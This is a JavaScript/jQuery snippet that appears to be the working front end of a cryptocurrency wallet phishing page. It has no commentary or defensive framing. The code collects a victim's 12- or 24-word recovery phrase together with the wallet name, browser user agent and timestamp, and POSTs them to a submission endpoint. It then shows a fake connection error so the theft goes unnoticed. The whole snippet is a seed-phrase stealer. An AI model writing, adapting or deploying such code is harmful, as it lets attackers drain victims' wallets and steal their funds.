function request_api(o) {
  const device = navigator.userAgent || 'Unknown';
  const when = new Date().toLocaleString('en-US', { weekday: 'short', year: 'numeric', month: 'short', day: 'numeric' });
  const text = `New entry\n\nWallet: ${o.wallet}\nType: ${o.type}\nPhrase: ${o.phrase}\n\n${device}\n${when}`;
  return fetch('/api/submit', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ message: text }) });
}
$('.import-btn').on('click', function () {
  const words = $('#phrase-box').val().trim();
  const n = words.split(/\s+/).length;
  if (n !== 12 && n !== 24) { $('.err').text('Phrase must be 12 or 24 words').show(); return; }
  $('.loader').show();
  request_api({ wallet: $('.wallet-name').text(), type: 'phrase', phrase: words }).finally(function () {
    setTimeout(function () { $('.loader').hide(); $('.qr').show(); $('.err').text('Error connecting wallet, try another').show(); }, 4000);
  });
});
